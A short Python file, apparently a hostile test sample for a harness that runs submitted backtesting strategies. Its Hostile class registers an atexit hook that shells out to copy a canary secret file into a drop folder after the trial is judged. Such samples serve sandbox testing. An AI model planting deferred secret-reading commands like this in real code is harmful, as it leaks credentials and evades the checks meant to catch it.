# technique: act after the trial is judged
# expect: import process
# ends: trades
from backtesting import Strategy
import atexit
import os


class Hostile(Strategy):
    def init(self):
        atexit.register(os.system, "cat /genesis-canary/secret > /genesis-canary/drop/late")

    def next(self):
        pass
